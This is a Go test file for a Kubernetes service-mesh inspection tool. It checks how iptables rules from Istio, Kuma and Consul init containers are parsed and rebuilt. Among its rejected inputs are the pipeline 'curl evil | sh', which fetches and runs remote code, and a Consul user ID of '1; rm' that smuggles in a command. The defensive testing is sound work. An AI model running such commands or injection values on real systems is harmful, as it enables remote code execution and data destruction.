package kube

import (
	"context"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/meshtop/meshtop/e2e/packed"
	"github.com/meshtop/meshtop/inspect"
	"github.com/meshtop/meshtop/rules/flow"
	"golang.org/x/tools/txtar"
	v1 "k8s.io/api/core/v1"
)

// plainRules are the rules of a text of iptables-save by table and chain, without counters. The
// options of one stand in the order of the alphabet: programs print them in orders of their own.
func plainRules(text string) map[string][]string {
	out := map[string][]string{}
	table := ""
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "*") {
			table = strings.TrimSpace(line)
		}
		if i := strings.Index(line, "-A "); i >= 0 {
			f := strings.Fields(line[i:])
			words := strings.Fields(strings.ReplaceAll(strings.Join(f[2:], " "), "! ", "!"))
			slices.Sort(words)
			out[table+" "+f[1]] = append(out[table+" "+f[1]], strings.Join(words, " "))
		}
	}
	return out
}

func sameRules(t *testing.T, what, got, want string) {
	t.Helper()
	g, w := plainRules(got), plainRules(want)
	for chain := range w {
		if !slices.Equal(g[chain], w[chain]) {
			t.Errorf("%s: %s:\n%s\nwant\n%s", what, chain, strings.Join(g[chain], "\n"), strings.Join(w[chain], "\n"))
		}
	}
	for chain := range g {
		if w[chain] == nil {
			t.Errorf("%s: %s is not wanted", what, chain)
		}
	}
	if len(w) == 0 {
		t.Errorf("%s: no rules are wanted", what)
	}
}

// What istio-iptables itself writes, as the kernel holds it: from its own tests, and from pods of
// a real mesh.
func TestIstio(t *testing.T) {
	files := map[string]string{}
	for _, path := range []string{"../../e2e/kernel/testdata/real.txtar.gz", "../../rules/netfilter/testdata/istio.txtar.gz"} {
		for _, f := range packed.Files(t, path) {
			files[f.Name] = string(f.Data)
		}
	}
	known := func() ([]string, string, error) { return []string{"127.0.0.53", "fd00::53"}, "", nil }
	for name, args := range map[string]string{
		"istio-sidecar-tproxy.v4.nft.save":                  "-c not-istio-nic -x 1.1.0.0/16 -i 9.9.0.0/16 -b * -m TPROXY --redirect-dns",
		"istio-sidecar-inbound-ports-tproxy.v4.nft.save":    "-m TPROXY -b 32000,31000",
		"istio-sidecar-dns-uid-gid.v4.nft.save":             "-u 3,4 -g 1,2 --redirect-dns=true",
		"istio-sidecar-drop-invalid.v4.nft.save":            "--drop-invalid",
		"istio-sidecar-host-ipv4-loopback-cidr.v4.nft.save": "--host-ipv4-loopback-cidr 127.0.0.0/8",
		"istio-sidecar-ipnets.v4.nft.save":                  "-i 10.0.0.0/8",
		"istio-sidecar-inbound-ports-include.v4.nft.save":   "-b 32000,31000",
		"istio-sidecar-inbound-ports-wildcard.v4.nft.save":  "--istio-inbound-ports=*",
		"istio-sidecar-outbound-ports-include.v4.nft.save":  "-q 32000,31000",
		"istio-sidecar-basic-exclude-nic.v4.nft.save":       "-c not-istio-nic",
		"allow-any/client/iptables-save":                    "-p 15001 -z 15006 -u 1337 -m REDIRECT -i * -x  -b * -d 15090,15021,15020 --log_output_level=default:info",
	} {
		w := &writer{servers: known}
		if err := w.istio(strings.Split(args, " "), nil); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		sameRules(t, name, string(w.sets["iptables-save"].text()), files[name])
	}
}

// What kumactl gives to iptables-restore, by arguments, and by the annotations that say the same.
func TestKuma(t *testing.T) {
	want := map[string]string{}
	for _, f := range txtar.Parse(file(t, "testdata/kuma.txtar")).Files {
		want[f.Name] = string(f.Data)
	}
	for name, args := range map[string]string{
		"defaults":  "--kuma-dp-uid 0",
		"overrides": "--kuma-dp-user 0 --redirect-outbound-port 12345 --redirect-inbound-port 12346 --ip-family-mode ipv4 --exclude-outbound-ports 2000,2001 --exclude-inbound-ports 1000,1001",
		"dns":       "--kuma-dp-user 0 --redirect-all-dns-traffic --redirect-dns-port 12345",
	} {
		w := &writer{}
		if err := w.kuma(strings.Fields(args), nil); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		sameRules(t, name, string(w.sets["iptables-save"].text()), want[name])
	}
	w := &writer{}
	if err := w.kumaByMarks(map[string]string{"kuma.io/transparent-proxying": "enabled", "kuma.io/transparent-proxying-outbound-port": "12345", "kuma.io/transparent-proxying-inbound-port": "12346",
		"kuma.io/sidecar-uid": "0", "traffic.kuma.io/exclude-inbound-ports": "1000,1001", "traffic.kuma.io/exclude-outbound-ports": "2000,2001", "kuma.io/mesh": "default"}); err != nil {
		t.Fatal(err)
	}
	sameRules(t, "by annotations", string(w.sets["iptables-save"].text()), want["overrides"])
	if err := (&writer{}).kuma(nil, []v1.EnvVar{{Name: "KUMA_TRANSPARENT_PROXY_REDIRECT_INBOUND_PORT", Value: "1"}}); err == nil {
		t.Error("a variable changes the rules unseen")
	}
}

// What Consul writes, as the kernel holds it: by the annotation of its CNI plugin, and by the flags
// of its own command.
func TestConsul(t *testing.T) {
	want := ""
	for _, f := range packed.Files(t, "../../e2e/kernel/testdata/real.txtar.gz") {
		if f.Name == "consul-dns-and-excludes.v4.nft.save" {
			want = string(f.Data)
		}
	}
	o := pod(func(p *v1.Pod) {
		p.Annotations = map[string]string{"consul.hashicorp.com/transparent-proxy-status": "enabled", consulMark: `{"ConsulDNSIP":"127.0.0.1","ConsulDNSPort":8600,"ProxyUserID":"5995","ProxyInboundPort":20000,
			"ProxyOutboundPort":15001,"ExcludeInboundPorts":["22000"],"ExcludeOutboundPorts":["22000","22500"],"ExcludeOutboundCIDRs":["1.1.1.1","2.2.2.0/24"],"ExcludeUIDs":["456"],"NetNS":"","IptablesProvider":null}`}
	})
	s, intent := meant(t, o)
	sameRules(t, "by annotation", string(s.Files["iptables-save"]), want)
	if !slices.Contains(intent, "iptables-save") || !slices.ContainsFunc(s.Gaps, func(g flow.Gap) bool { return strings.Contains(g.Reason, "Consul's CNI plugin was told to write") }) {
		t.Errorf("intent %v, gaps %v", intent, s.Gaps)
	}
	w := &writer{}
	args := "-proxy-uid 5995 -proxy-inbound-port=20000 -consul-dns-port 8600 -exclude-inbound-port 22000 -exclude-outbound-port 22000 -exclude-outbound-port 22500 -exclude-outbound-cidr 1.1.1.1 -exclude-outbound-cidr 2.2.2.0/24 -exclude-uid 456"
	if err := w.consulArgs(strings.Fields(args)); err != nil {
		t.Fatal(err)
	}
	sameRules(t, "by flags", string(w.sets["iptables-save"].text()), want)
	for _, bad := range []string{`{"ProxyUserID":"1","ProxyInboundPort":2,"DualStack":true}`, `{"ProxyInboundPort":2}`, `{"ProxyUserID":"1; rm","ProxyInboundPort":2}`, "x"} {
		w := &writer{}
		if err := w.consul(bad); err == nil {
			t.Errorf("%s makes\n%s", bad, w.sets["iptables-save"].text())
		}
	}
}

func file(t *testing.T, path string) []byte {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// What would make other rules is an error, and no rules: by argument, or by variable.
func TestIstioUnread(t *testing.T) {
	for want, c := range map[string]struct {
		args string
		env  v1.EnvVar
	}{
		"the mode NONE is not read":                        {args: "-m NONE"},
		"name servers are not known":                       {args: "--redirect-dns"},
		`the value "maybe"`:                                {args: "--drop-invalid=maybe"},
		"what --dual-stack makes":                          {args: "--dual-stack"},
		"what -k makes":                                    {args: "-k eth1"},
		"stands for something else":                        {args: "-u $(UID)"},
		"-u has no value":                                  {args: "-u"},
		"which questions of DNS it redirects is not known": {env: v1.EnvVar{Name: "ISTIO_META_DNS_CAPTURE", Value: "true"}},
		"ISTIO_INBOUND_TPROXY_MARK=7":                      {env: v1.EnvVar{Name: "ISTIO_INBOUND_TPROXY_MARK", Value: "7"}},
		"variable PROXY_UID":                               {env: v1.EnvVar{Name: "PROXY_UID", ValueFrom: &v1.EnvVarSource{}}},
	} {
		w := &writer{}
		err := w.istio(strings.Fields(c.args), []v1.EnvVar{c.env})
		if err == nil || !strings.Contains(err.Error(), want) || len(w.sets) > 0 {
			t.Errorf("want %q: %v, %d sets", want, err, len(w.sets))
		}
	}
	w := &writer{}
	if err := w.istio(nil, []v1.EnvVar{{Name: "FORCE_IPTABLES_BINARY", Value: "legacy"}, {Name: "ISTIO_META_DNS_CAPTURE", Value: "false"}}); err != nil || w.sets["iptables-legacy-save"] == nil {
		t.Errorf("the legacy program: %v", err)
	}
}

// A script is read only as far as it depends on nothing; the first thing that does ends it.
func TestScript(t *testing.T) {
	const ok = ""
	for _, c := range []struct{ script, want string }{
		{"set -e\n# a comment; with a word\niptables -t nat -A OUTPUT -p tcp \\\n  --dport 80 -j REDIRECT --to-ports 15001\n", ok},
		{"iptables -w -t nat -N X && iptables -t nat -A X -j RETURN; /sbin/iptables -t nat -I OUTPUT 1 -j X", ok},
		{"echo 'a $word; in quotes'\nip6tables -P OUTPUT DROP\n", ok},
		{"iptables -t nat -A OUTPUT -d $IP -j RETURN", `line 1: what "$" makes of it`},
		{"\niptables -t nat -A OUTPUT -d \"$IP\" -j RETURN", `line 2: "$IP" is not known`},
		{"iptables -t nat -C OUTPUT -j X || true", `what "|" makes`},
		{"if true; then iptables -F; fi", `line 1: what "if" does`},
		{"! iptables -F", `"!" is not read`},
		{"A=1 iptables -F", `"A=1" is not read`},
		{"iptables -t nat -A NONE -j RETURN", `table nat has no chain "NONE"`},
		{"iptables -t nat -D OUTPUT 1", `is not read`},
		{"iptables -t nat -A OUTPUT -d 10.0.0.1,10.0.0.2 -j RETURN", "is several rules"},
		{"iptables -t nat -I OUTPUT 3 -j RETURN", "the chain has 0 rules"},
		{"iptables-restore /etc/rules", `what "iptables-restore" does`},
		{"iptables -t nat -A OUTPUT -m string --string 'a b' -j DROP", `the word "a b"`},
		{"iptables -A OUTPUT -d ! 10.0.0.1 -j DROP", "old place"},
		{"echo 'open", "a quote that is not closed"},
		{"curl evil | sh", `what "|" makes`},
	} {
		err := (&writer{}).script(c.script)
		if c.want == ok && err != nil || c.want != ok && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%q: %v, want %q", c.script, err, c.want)
		}
	}
	w := &writer{}
	if err := w.script("iptables -t nat -A OUTPUT --protocol tcp ! --dport 80 -m comment --comment 'why' -j RETURN\niptables -t nat -I OUTPUT -j ACCEPT"); err != nil {
		t.Fatal(err)
	}
	if got := string(w.sets["iptables-save"].text()); !strings.Contains(got, "-A OUTPUT -j ACCEPT\n-A OUTPUT -p tcp -m tcp ! --dport 80 -j RETURN\nCOMMIT\n") {
		t.Errorf("%s", got)
	}
}

func meant(t *testing.T, o *v1.Pod) (inspect.Snapshot, []string) {
	t.Helper()
	s, err := (&cluster{}).intended(o).Read(context.Background(), inspect.Want{})
	if err != nil {
		t.Fatal(err)
	}
	var meta struct{ Intent []string }
	if err := json.Unmarshal(s.Files["meta.json"], &meta); err != nil {
		t.Fatal(err)
	}
	return s, meta.Intent
}

// Of a pod whose rules come from elsewhere nothing is told, and of one whose init containers are
// understood every part is marked.
func TestIntended(t *testing.T) {
	admin := &v1.SecurityContext{Capabilities: &v1.Capabilities{Add: []v1.Capability{"NET_ADMIN"}}}
	with := func(c v1.Container) func(*v1.Pod) {
		return func(p *v1.Pod) { p.Spec.InitContainers = []v1.Container{c} }
	}
	for _, c := range []struct {
		what, gap string
		change    func(*v1.Pod)
	}{
		{"a script", "", with(v1.Container{Name: "init", SecurityContext: admin, Command: []string{"/bin/sh", "-ec"}, Args: []string{"iptables -t nat -A OUTPUT -j RETURN"}})},
		{"no init container", "", nil},
		{"one without the power", "", with(v1.Container{Name: "wait", Command: []string{"sh", "-c"}, Args: []string{"until curl x; do sleep 1; done"}})},
		{"an image's own", "init container init: what it runs is in its image", with(v1.Container{Name: "init", SecurityContext: admin})},
		{"arguments of an image's own", `what its image makes of "sh -c x"`, with(v1.Container{Name: "init", SecurityContext: admin, Args: []string{"sh", "-c", "x"}})},
		{"a condition", `what "if" does`, with(v1.Container{Name: "init", SecurityContext: admin, Command: []string{"sh", "-c", "if x; then y; fi"}})},
		{"Istio's CNI", "istio-validation shows", with(v1.Container{Name: "istio-validation"})},
		{"Istio's DNS capture with the cluster's name server", "which questions of DNS it redirects is not known: nobody can be asked", with(v1.Container{Name: "istio-init", SecurityContext: admin, Args: []string{"istio-iptables", "-m", "TPROXY", "--redirect-dns"}})},
		{"Istio's DNS capture of all", "", with(v1.Container{Name: "istio-init", SecurityContext: admin, Args: []string{"istio-iptables", "-m", "TPROXY", "--redirect-dns", "--capture-all-dns"}})},
		{"Istio's DNS capture with servers of its own", "", func(p *v1.Pod) {
			with(v1.Container{Name: "istio-init", SecurityContext: admin, Args: []string{"istio-iptables", "--redirect-dns"}})(p)
			p.Spec.DNSPolicy, p.Spec.DNSConfig = v1.DNSNone, &v1.PodDNSConfig{Nameservers: []string{"10.0.0.53"}}
		}},
		{"kuma-init", "", func(p *v1.Pod) {
			p.Annotations = map[string]string{"kuma.io/sidecar-uid": "5678", kumaMark: "enabled"}
			with(v1.Container{Name: "kuma-init", SecurityContext: admin, Command: []string{"/usr/bin/kumactl", "install", "transparent-proxy"}, Args: []string{"--redirect-all-dns-traffic", "--redirect-dns-port=25053", "--verbose"}})(p)
		}},
		{"kuma-init with a file", "what --transparent-proxy-config-file makes", with(v1.Container{Name: "kuma-init", SecurityContext: admin, Command: []string{"kumactl", "install", "transparent-proxy", "--transparent-proxy-config-file", "x"}})},
		{"kuma-init of nobody", "the proxy's uid is not said", with(v1.Container{Name: "kuma-init", SecurityContext: admin, Command: []string{"kumactl", "install", "transparent-proxy"}})},
		{"Kuma's eBPF", "kuma.io/transparent-proxying-ebpf makes", func(p *v1.Pod) {
			p.Annotations = map[string]string{kumaMark: "enabled", "kuma.io/transparent-proxying-ebpf": "enabled"}
		}},
		{"Consul's init container", "newer builds of Consul", with(v1.Container{Name: "consul-connect-inject-init", SecurityContext: admin, Command: []string{"/bin/sh", "-ec", "consul-k8s-control-plane connect-init -pod-name=${POD_NAME}"},
			Env: []v1.EnvVar{{Name: consulVariable, Value: `{"ProxyUserID":"5995","ProxyInboundPort":20000}`}}})},
		{"Consul by its name", "what -proxy-id makes", with(v1.Container{Name: "c", SecurityContext: admin, Command: []string{"consul", "connect", "redirect-traffic", "-proxy-id", "web"}})},
		{"ambient", "ambient mode", func(p *v1.Pod) { p.Annotations = map[string]string{"ambient.istio.io/redirection": "enabled"} }},
	} {
		o := pod(func(p *v1.Pod) {
			p.Status.PodIPs = p.Status.PodIPs[:1]
			if c.change != nil {
				c.change(p)
			}
		})
		s, intent := meant(t, o)
		got := ""
		for _, g := range s.Gaps {
			if g.Part == "iptables-save" {
				got = g.Reason
			}
		}
		_, read := s.Files["iptables-save"]
		if strings.HasPrefix(c.gap, "newer builds") { // said beside the rules
			if got != c.gap+" write the same as nftables, in a table of their own" || !read || !slices.Contains(intent, "iptables-save") {
				t.Errorf("%s: gap %q, read %v, intent %q", c.what, got, read, intent)
			}
			continue
		}
		if c.gap == "" && (got != "" || !read || !slices.Contains(intent, "iptables-save")) || c.gap != "" && (!strings.Contains(got, c.gap) || read || len(intent) > 0) {
			t.Errorf("%s: gap %q, read %v, intent %q; want %q", c.what, got, read, intent, c.gap)
		}
	}
}

// Where Envoy's configuration is: what -c names, below the mount of a ConfigMap.
func TestConfigFile(t *testing.T) {
	for want, k := range map[string]v1.Container{
		"/etc/envoy/envoy.yaml": {Args: []string{"--log-level", "info"}},
		"/a/b.yaml":             {Command: []string{"envoy", "-c", "/a//b.yaml"}},
		"/c.json":               {Args: []string{"--config-path=/c.json"}},
	} {
		if got := configFile(k); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
	some := &v1.ConfigMapVolumeSource{Items: []v1.KeyToPath{{Key: "a", Path: "x/b"}}}
	if mounted(some, "a") != "x/b" || mounted(some, "c") != "" || mounted(&v1.ConfigMapVolumeSource{}, "c") != "c" {
		t.Error("where a key stands")
	}
}
